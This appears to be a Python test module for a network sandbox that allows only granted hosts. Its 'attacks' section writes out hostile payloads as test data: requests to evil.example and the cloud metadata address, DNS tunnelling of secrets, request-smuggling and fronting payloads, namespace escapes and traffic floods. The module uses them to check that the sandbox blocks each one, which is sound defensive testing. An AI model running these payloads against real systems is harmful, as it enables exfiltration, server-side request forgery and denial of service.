"""The calls that are made in the world: each with the hosts that it is granted. What must come of them is in the test
modules.

`@PYTHON@` is the interpreter of the host, `@HERE@` the workspace.
"""

import functools
import os
import shlex
import textwrap
from dataclasses import asdict, dataclass, field, replace

import pytest
from names import CHANGING

import sampling

GOOD = ["good.example"]
WHOLE = True
"""A grant of the whole network: a control that shows that an attack would succeed."""


@dataclass
class Check:
    name: str
    command: str
    network: list[str] | bool
    group: str = "programs"
    part: str = "main"
    """The process that makes the call."""
    scenario: str = ""
    """The method of `Calls` that does more than one call."""
    then: str = ""
    """The command of a scenario's second call."""
    needs: list[str] = field(default_factory=list)
    stage: int = 1
    """All checks of a stage have ended before the next stage begins."""
    shows: str = ""
    """What its output contains if it reaches its host."""
    refused: list[str] = field(default_factory=list)
    """The hosts and ports that must be reported as refused."""
    reason: str = ""
    """What the reason of a refusal must contain."""
    reaches: bool = True
    """Whether the output must contain `shows`, or must not contain it."""
    control: bool = False
    """Whether the same command does show it with a grant of the whole network: then the refusal has prevented it."""

    to_json = asdict

    @property
    def has_own_test(self):
        """Whether a test would have no other check to run, so that this one runs every day."""
        is_flood = self.name == "a flood of look-ups and datagrams"
        return bool(self.scenario) or is_flood or (CHANGING in self.command and self.group == "attacks")


def python(code, *, unbuffered=False):
    flag = "-u " if unbuffered else ""
    return f"@PYTHON@ {flag}-c {shlex.quote(PRELUDE + textwrap.dedent(code))}"


PRELUDE = "import os, socket, ssl, sys, time\n"
SSH = "ssh -F /dev/null -o UserKnownHostsFile=/dev/null -o StrictHostKeyChecking=no -o BatchMode=yes -o LogLevel=ERROR"

# Programs: each is called with a granted host, and with one that is not granted. `HOST` stands for it.

FETCH = """
import urllib.request
print(urllib.request.urlopen("https://HOST/").read())
"""
AIOHTTP = """
import aiohttp, asyncio
async def main():
    async with aiohttp.ClientSession() as session:
        async with session.get("https://HOST/") as answer:
            print(await answer.text())
asyncio.run(main())
"""
WEBSOCKET = """
import aiohttp, asyncio
async def main():
    async with aiohttp.ClientSession() as session:
        async with session.ws_connect("SCHEME://HOST/ws") as end:
            for number in range(3):
                await end.send_str(f"hello {number}")
                print((await end.receive()).data)
asyncio.run(main())
"""
PIP = (
    "@PYTHON@ -m pip --isolated --retries 0 --cert @HERE@/ca.pem --disable-pip-version-check install -q --no-deps "
    "--target lib-HOST -i https://HOST/simple tiny"
)
NPM = (
    "mkdir -p npm-HOST; cd npm-HOST; npm install --no-audit --no-fund --loglevel=error --fetch-retries=0 "
    "--cafile=@HERE@/ca.pem --cache=/tmp/npm --registry=https://HOST/npm/ tiny"
)
NODE = "node -e 'fetch(\"https://HOST/\").then(answer => answer.text()).then(console.log)'"
PSQL = "psql -h HOST -U tester -d postgres -Atc 'select 40 + 2'"
PROGRAMS = {
    # name: (command, what it shows, ports, the program that must be installed)
    "curl": ("curl -sS https://HOST/ http://HOST/", "hello HOST", [443, 80], "curl"),
    "curl without a proxy": ("curl -sS --noproxy '*' https://HOST/ http://HOST/", "hello HOST", [443, 80], "curl"),
    "wget": ("wget -q --tries=1 --ca-certificate=@HERE@/ca.pem -O- https://HOST/", "hello HOST", [443], "wget"),
    "git over https": ("git clone -q https://HOST/repo.git a-HOST; git -C a-HOST log --oneline", "first", [443], "git"),
    "git over ssh": (
        f"GIT_SSH_COMMAND={shlex.quote(SSH)} git clone -q ssh://git@HOST/repo.git b-HOST; git -C b-HOST log --oneline",
        "first", [22], "ssh",
    ),
    "pip": (f"{PIP}; PYTHONPATH=lib-HOST @PYTHON@ -m tiny", "tiny works", [443], "python3"),
    "npm": (f"{NPM}; node -e 'console.log(require(\"tiny\"))'", "tiny works", [443], "npm"),
    "urllib": (python(FETCH), "hello HOST", [443], "python3"),
    "aiohttp": (python(AIOHTTP), "hello HOST", [443], "python3"),
    "fetch of node": (NODE, "hello HOST", [443], "node"),
    "websocket": (python(WEBSOCKET.replace("SCHEME", "ws")), "hello 2", [80], "python3"),
    "websocket over TLS": (python(WEBSOCKET.replace("SCHEME", "wss")), "hello 2", [443], "python3"),
    "static binary with its own resolver": ("@HERE@/static HOST", "hello HOST", [80], "gcc"),
    "static binary of Go": ("@HERE@/static-go HOST", "hello HOST", [80], "go"),
    "bash": ("exec 3<>/dev/tcp/HOST/7004; read -r line <&3; echo $line", "speaks first", [7004], "bash"),
}  # fmt: skip


def programs():
    for name, (command, shows, ports, program) in PROGRAMS.items():
        grants = [f"good.example:{port}" for port in ports]
        for host in ("good.example", "evil.example"):
            yield Check(
                f"{name}, {'granted' if host == 'good.example' else 'not granted'}",
                command.replace("HOST", host), grants, "programs", needs=[program], shows=shows.replace("HOST", host),
                reaches=host == "good.example", refused=[] if host == "good.example" else [f"{host}:{ports[0]}"],
            )  # fmt: skip
    for host, grant in (("db.internal", "db.internal:5432"), ("db.internal", "db.internal:5433")):
        yield Check(
            f"psql, {'granted' if grant.endswith('2') else 'not granted'}", PSQL.replace("HOST", host), [grant],
            needs=["psql", "postgres"], shows="42", stage=2, reaches=grant.endswith("2"),
            refused=[] if grant.endswith("2") else ["db.internal:5432"],
        )  # fmt: skip


# Forms of grants

HOSTS = [
    ("a.wild.example", ["*.wild.example:80"], True), ("b.c.wild.example", ["*.wild.example:80"], True),
    ("wild.example", ["*.wild.example:80"], False), ("six.example", ["six.example"], True),
    ("xn--bcher-kva.example", ["bücher.example"], True), ("good.example", ["good.example:443"], False),
    ("good.example:8080", ["good.example:*"], True), ("20.0.0.1", ["20.0.0.1:80"], True),
    ("20.0.0.2", ["20.0.0.1:80"], False), ("[2600::1]", ["[2600::1]:80"], True), ("[2600::2]", ["[2600::1]:80"], False),
    ("localhost:5599", ["localhost:5599"], True), ("localhost:5599", ["good.example"], False),
    ("inner.example", ["inner.example:80=10.0.0.0/8"], True), ("mixed.example", ["mixed.example"], True),
    ("dead.example", ["dead.example"], False),
]  # fmt: skip


def hosts():
    for host, grants, is_reached in HOSTS:
        yield Check(
            f"{host} with {grants[0]}", f"curl -gsS -m 20 http://{host}/", grants, "hosts",
            shows="hello", reaches=is_reached,
        )  # fmt: skip


# Load

HALF_CLOSED = """
end = socket.create_connection(("good.example", 7002))
for _ in range(64):
    end.sendall(bytes(1 << 18))
end.shutdown(socket.SHUT_WR)
print(end.recv(100))
"""
MANY = """
import resource
hard = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
ends = [socket.create_connection(("good.example", 7000)) for _ in range(1000)]
for number, end in enumerate(ends):
    end.sendall(b"%d" % number)
print("right:", sum(end.recv(99) == b"%d" % number for number, end in enumerate(ends)))
"""
SLOW = """
ends = [socket.create_connection(("good.example", 7001)) for _ in range(40)]
for end in ends:
    end.recv(1)
time.sleep(0.5)
print("waiting", flush=True)
time.sleep(100)
"""
FLOWING = """
end = socket.create_connection(("good.example", 7001))
got = 0
while True:
    got += len(end.recv(1 << 20))
    if got > 1 << 22:
        print("flowing", flush=True)
        got = -1 << 60
"""
BODIES = """
head -c 20000000 /dev/zero | curl -sS -T - -X POST http://good.example/
echo
head -c 3000000 /dev/zero | curl -sS --data-binary @- http://good.example/ http://good.example/
"""


def load(megabytes):
    size = megabytes * 1_000_000
    yield Check(
        "a large transfer down", f"curl -sS http://good.example/bytes/{size} | wc -c", GOOD, "load", shows=f"{size}\n"
    )
    yield Check(
        "a large transfer up",
        f"head -c {size} /dev/zero | curl -sS -T - https://good.example/x",
        GOOD,
        "load",
        shows=str(size),
    )
    yield Check("half-closed streams", python(HALF_CLOSED), ["good.example:7002"], "load", shows=str(64 << 18))
    yield Check("bodies of plain requests", BODIES, GOOD, "load", shows="20000000\n30000003000000")
    yield Check(
        "a thousand connections at once", python(MANY), ["good.example:7000"], "load", shows="right: 1000", stage=3
    )
    yield Check("a slow reader", python(SLOW), ["good.example:7001"], "load", scenario="slow", stage=4)
    yield Check(
        "cancelled in the middle", python(FLOWING), ["good.example:7001"], "load", scenario="cancelled",
        then="echo again; curl -sS -m 5 http://evil.example/",
    )  # fmt: skip


# Attacks

ANSWER = """
def talk(host, port, data, wait=1):
    end = socket.create_connection((host, port), 10)
    end.sendall(data)
    end.settimeout(wait)
    got = b""
    try:
        while part := end.recv(9999):
            got += part
    except OSError as error:
        print(error)
    print(got)
"""
TO_GOOD = b"GET / HTTP/1.1\r\nHost: good.example\r\n\r\n"
TO_TENANT = b"GET / HTTP/1.1\r\nHost: tenant.example\r\n\r\n"
TO_EVIL = b"GET / HTTP/1.1\r\nHost: evil.example\r\n\r\n"
POST = b"POST / HTTP/1.1\r\nHost: good.example\r\n"
CHUNKED = b"Transfer-Encoding: chunked\r\n\r\n"
UPGRADE = b"Connection: Upgrade\r\nUpgrade: websocket\r\n\r\n"
FRONTING = {
    "second request": (80, TO_GOOD + TO_TENANT),
    "absolute target": (80, b"GET http://tenant.example/ HTTP/1.1\r\nHost: good.example\r\n\r\n"),
    "two hosts": (80, b"GET / HTTP/1.1\r\nHost: good.example\r\nHost: tenant.example\r\n\r\n"),
    "folded host": (80, b"GET / HTTP/1.1\r\nHost:\r\n tenant.example\r\n\r\n"),
    "leading line ends": (8080, b"\r\n\r\n" + TO_TENANT),
    "bare line feeds": (80, TO_TENANT.replace(b"\r\n", b"\n")),
    "connect": (80, b"CONNECT evil.example:80 HTTP/1.1\r\nHost: good.example\r\n\r\n" + TO_EVIL),
    "HTTP/2 without TLS": (80, b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"),
    "length against chunked": (80, POST + b"Content-Length: 4\r\n" + CHUNKED + b"0\r\n\r\n" + TO_TENANT),
    "chunk without line end": (80, POST + CHUNKED + b"1\r\nxAB32\r\n0\r\n\r\n" + TO_TENANT),
    "fake upgrade": (80, TO_GOOD[:-2] + UPGRADE + TO_TENANT),
    "plain HTTP at the port of TLS": (8080, TO_TENANT),
}  # fmt: skip
NO_SERVER_NAME = """
context = ssl._create_unverified_context()
try:
    end = context.wrap_socket(socket.create_connection(("good.example", 443)))
    end.send(b"GET / HTTP/1.1\\r\\nHost: tenant.example\\r\\n\\r\\n")
    time.sleep(.2)
    print(end.recv(999), end.recv(999))
except OSError as error:
    print(error)
"""
SPLIT = """
end = socket.create_connection(("good.example", 8080))
end.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
try:
    for byte in b"GET / HTTP/1.1\\r\\nHost: tenant.example\\r\\n\\r\\n":
        end.send(bytes((byte,)))
        time.sleep(0.005)
    end.settimeout(2)
    print(end.recv(999))
except OSError as error:
    print(error)
"""
DATAGRAMS = """
for host in ("good.example", "20.0.0.66"):
    end = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    end.settimeout(1)
    try:
        end.connect((host, 443))
        end.send(b"x")
        print(end.recv(99))
    except OSError as error:
        print(error)
"""
RAW = """
for kind in ((2, 3, 6), (2, 3, 255), (17, 3, 3), (10, 3, 6)):
    try:
        socket.socket(*kind)
        print("opened", kind)
    except OSError as error:
        print(error)
"""
PING = """
try:
    end = socket.socket(2, 2, 1)
    end.settimeout(0.5)
    end.sendto(b"\\x08\\0\\0\\0\\0\\0\\0\\0", ("20.0.0.66", 0))
    print("hello", end.recv(99))
except OSError as error:
    print(error)
"""
TUNNEL = """
for number in range(60):
    try:
        socket.getaddrinfo("secret%d.evil.example" % number, 443)
        socket.create_connection(("secret%d.good.example" % number, 443), 1)
        print("reached")
    except OSError:
        pass
for server in ("8.8.8.8", "20.0.0.66", "127.0.0.53"):
    end = socket.socket(2, 2)
    end.connect((server, 53))
    end.send(b"\\0\\1\\1\\0\\0\\1\\0\\0\\0\\0\\0\\0\\6secret\\4evil\\7example\\0\\0\\x10\\0\\1")
    end.settimeout(1)
    print(len(end.recv(999)), "bytes")
"""
SCAN = """
for name in os.listdir("/proc/self/fd"):
    try:
        if os.readlink("/proc/self/fd/" + name).startswith("socket:"):
            print("has a socket")
    except OSError:
        pass
addresses = ["198.18.0.1", "198.18.0.2", "198.18.0.3", "198.19.0.2", "198.19.0.3", "127.0.0.1", "20.0.0.1"]
for address in addresses:
    for port in (1, 2, 53, 80, 443, 3128, 7000):
        try:
            end = socket.create_connection((address, port), 1)
            end.settimeout(0.3)
            end.sendall(b"CONNECT good.example:7000 HTTP/1.1\\r\\n\\r\\n" if port == 3128 else b"0123456789abcdefhello")
            if b"hello" in (got := end.recv(999)) or b" 200 " in got:
                print("reached", address, port, got)
        except OSError:
            pass
for name in open("/proc/net/unix").read().split():
    if name.startswith("@"):
        try:
            socket.socket(1).connect("\\0" + name[1:])
            print("reached", name)
        except OSError:
            pass
print("tried all")
"""
HOLD = """
end = socket.create_connection(("good.example", 7000))
end.sendall(b"x")
end.recv(1)
print("holding", flush=True)
time.sleep(100)
"""
DNS_FLOOD = """
import random
end = socket.socket(2, 2)
end.connect(("127.0.0.1", 53))
end.setblocking(False)
for number in range(20000):
    try:
        end.send(os.urandom(number % 600))
    except OSError:
        pass
for number in range(6000):
    label = b"n%d" % number
    try:
        end.send(b"\\0\\1\\1\\0\\0\\1\\0\\0\\0\\0\\0\\0" + bytes((len(label),)) + label + b"\\7example\\0\\0\\1\\0\\1")
    except OSError:
        pass
for number in range(5000):
    try:
        socket.socket(2, 2).sendto(b"x", ("9.9.%d.%d" % (number >> 8 & 255, number & 255), number % 60000 + 100))
    except OSError:
        pass
print("done")
"""
HELLO_FLOOD = """
import random
random.seed(1)
incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
try:
    ssl._create_unverified_context().wrap_bio(incoming, outgoing, server_hostname="good.example").do_handshake()
except ssl.SSLWantReadError:
    pass
hello = outgoing.read()
post = b"POST / HTTP/1.1\\r\\nHost: good.example\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n"
post += b"5\\r\\nhello\\r\\n0\\r\\n\\r\\n"
for number in range(1500):
    end = socket.create_connection(("good.example", (443, 80)[number % 2]), 20)
    data = bytearray((hello, post)[number % 2])
    for _ in range(random.randrange(6)):
        data[random.randrange(len(data))] = random.randrange(256)
    try:
        end.send(data[: random.randrange(len(data))])
    except OSError:
        pass
    end.close()
print("done")
"""
CONNECT_FLOOD = """
import resource
hard = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
address = socket.gethostbyname("good.example")
ends = [socket.socket() for _ in range(2600)]
for end in ends:
    end.setblocking(False)
    end.connect_ex((address, 7000))
for number in range(300):
    try:
        socket.create_connection(("evil%d.example" % number, 100 + number), 1)
        print("reached")
    except OSError:
        pass
print("done")
"""
TINY_RECORDS = """
ends = []
for _ in range(8):
    end = socket.create_connection(("good.example", 443), 20)
    try:
        end.sendall(b"\\x16\\3\\1\\0\\1\\1" + b"\\x16\\3\\1\\0\\1\\0" * 20000)
        ends.append(end)
    except OSError:
        pass
print("done")
"""


def attacks():
    def attack(name, command, grants=None, **more):
        more = {"shows": "hello", "reaches": False, "control": True, **more}
        return Check(name, command, [*GOOD, "good.example:8080"] if grants is None else grants, "attacks", **more)

    yield attack("a name that is not granted", "curl -sS -m 9 https://evil.example/", refused=["evil.example:443"])
    yield attack("a literal address", "curl -sS -m 9 http://20.0.0.66/", refused=["20.0.0.66:80"])
    yield attack("the literal address of the granted host", "curl -sS -m 9 http://20.0.0.1/", refused=["20.0.0.1:80"])
    yield attack("another port", python(ANSWER + "talk('good.example', 7000, b'hello')"), refused=["good.example:7000"])
    yield attack(
        "an address given for a name",
        "curl -sS -m 9 --noproxy '*' --resolve good.example:443:20.0.0.66 https://good.example/",
        refused=["20.0.0.66:443"],
    )
    for name in ("loop.example", "metadata.example", "metadata.internal", "inner.example", "mapped.example"):
        yield attack(
            f"a granted name that leads elsewhere: {name}",
            f"curl -sS -m 9 http://{name}/",
            [name],
            shows="hello",
            reason="leads to",
        )
    yield attack("the metadata address", "curl -sS -m 9 http://169.254.169.254/", refused=["169.254.169.254:80"])
    yield attack(
        "services of this machine", "curl -sS -m 9 http://127.0.0.1:5599/ 'http://[::1]:5599/' http://0.0.0.0:5599/"
    )
    yield attack(
        "another TLS server name",
        "curl -sS -m 9 --connect-to ::good.example: https://tenant.example/",
        reason="TLS server name",
    )
    yield attack("no TLS server name", python(NO_SERVER_NAME), reason="names no server")
    yield attack(
        "another host of plain HTTP",
        "curl -sS -m 9 -H 'Host: tenant.example' http://good.example/",
        shows="hello tenant",
        reason="HTTP host",
    )
    for name, (port, data) in FRONTING.items():
        code = python(ANSWER + f"talk('good.example', {port}, {data!r})")
        yield attack(
            f"fronting: {name}", code, reason="was refused", shows=f"hello {'evil' if name == 'connect' else 'tenant'}",
            control=name not in ("leading line ends", "HTTP/2 without TLS"),
        )  # fmt: skip
    yield attack("fronting: byte by byte", python(SPLIT), shows="hello tenant", reason="was refused")
    yield attack("datagrams", python(DATAGRAMS), refused=["good.example:443", "20.0.0.66:443"])
    yield attack("raw and packet sockets", python(RAW), shows="opened", control=False)
    yield attack("ICMP", python(PING), control=False)
    yield attack("secrets in look-ups", python(TUNNEL), shows="reached", control=False)
    yield attack(
        "a proxy variable that points elsewhere",
        "https_proxy=http://proxy.example:3128 curl -sS -m 9 https://evil.example/; "
        "ALL_PROXY=http://20.0.0.5:3128 curl -sS -m 9 http://evil.example/",
        refused=["proxy.example:3128", "20.0.0.5:3128"],
    )  # fmt: skip
    yield attack(
        "the proxy of the call",
        "for host in evil.example:443 20.0.0.66:80 127.0.0.1:5599 metadata.internal:80 good.example:7000; do "
        "curl -sS -m 9 -p -x http://198.18.0.1:3128 http://$host/; done", control=False,
    )  # fmt: skip
    yield attack(
        "routes and other namespaces",
        "ip route del local default dev lo table local && echo hello; ip link add x type dummy && echo hello; "
        "nsenter -t 1 -n true && echo hello; unshare -n true && echo hello; true", control=False,
    )  # fmt: skip
    yield attack(
        "the channel of another call", python(HOLD), ["good.example:7000"], scenario="beside", then=python(SCAN),
        shows="reached", control=False,
    )  # fmt: skip
    yield attack(
        "a child that outlives the call",
        "setsid nohup bash -c 'sleep 1; curl -sS -m 5 http://good.example/outlived' >/dev/null 2>&1 & "
        "disown; echo left",
        scenario="outlived", then="sleep 1.5; echo slept", control=False,
    )  # fmt: skip
    yield attack(
        "a name that leads elsewhere later",
        "for i in 1 2 3; do curl -sS -m 9 http://rebind.example/; done",
        ["rebind.example"],
        shows="169.254",
    )
    yield attack("a flood of look-ups and datagrams", python(DNS_FLOOD), stage=5, control=False)
    yield attack("a flood of changed hellos", python(HELLO_FLOOD), stage=5, control=False)
    yield attack(
        "a flood of connections", python(CONNECT_FLOOD), ["good.example:7000"], stage=5, shows="reached", control=False
    )
    yield attack("hellos in tiny records", python(TINY_RECORDS), stage=5, shows="reached", control=False)
    yield attack("the next call", "curl -sS https://good.example/", stage=6, control=False, reaches=True)


def proxied():
    """Where the host itself has to use a proxy."""
    shown = "env | grep -i proxy | sort; "
    for host in ("good.example", "evil.example"):
        yield Check(
            f"{host} with a proxy of the machine", f"{shown}curl -sS -m 9 https://{host}/", GOOD, "proxied",
            part="proxied", shows="hello", reaches=host == "good.example",
            refused=[] if host == "good.example" else [f"{host}:443"],
        )  # fmt: skip


def controls(checks):
    """The same attacks with a grant of the whole network."""
    for check in checks:
        if check.control:
            yield replace(
                check, name=f"{check.name}, allowed", network=WHOLE, group="controls", part="controls", reaches=True
            )


KINDS = ["root", "user"] if os.geteuid() == 0 else ["user"]
MEGABYTES = 500 if sampling.IS_WHOLE else 64


DAILY = {
    "root": {"programs": 9, "hosts": 4, "load": 4, "attacks": 9, "controls": 3, "proxied": 2},
    "user": {"programs": 6, "hosts": 3, "load": 2, "attacks": 7, "controls": 2, "proxied": 1},
}
"""How many checks of each group `make test` draws."""


@functools.cache
def chosen(kind):
    """The checks of a kind of user: all of them, or today's."""
    checks = [*programs(), *hosts(), *load(MEGABYTES), *attacks(), *proxied()]
    checks = [*checks, *controls(checks)]
    if not sampling.IS_DAILY:
        return checks
    drawn = {
        check.name
        for group, most in DAILY[kind].items()
        for check in sampling.some([one for one in checks if one.group == group], most, f"network {kind} {group}")
    }
    return [check for check in checks if check.name in drawn or (kind == KINDS[0] and check.has_own_test)]


def cases(which):
    """The parameters `kind` and `check` of a test: for each kind of user, the checks for which `which` holds."""
    pairs = [(kind, check) for kind in KINDS for check in chosen(kind) if which(check)]
    return pytest.mark.parametrize(
        ("kind", "check"), [pytest.param(*pair, id=f"{pair[0]}-{pair[1].name}") for pair in pairs]
    )
